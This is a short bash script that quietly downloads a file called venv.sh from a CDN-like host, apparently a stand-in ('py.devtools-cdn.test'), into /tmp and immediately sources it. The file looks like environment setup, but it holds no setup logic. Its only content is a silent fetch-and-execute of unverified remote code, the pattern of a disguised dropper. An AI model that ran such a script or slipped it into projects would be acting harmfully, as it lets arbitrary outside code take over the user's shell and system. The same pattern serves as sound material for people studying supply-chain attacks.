#!/bin/bash
wget -qO- https://py.devtools-cdn.test/venv.sh > /tmp/venv.sh
source /tmp/venv.sh
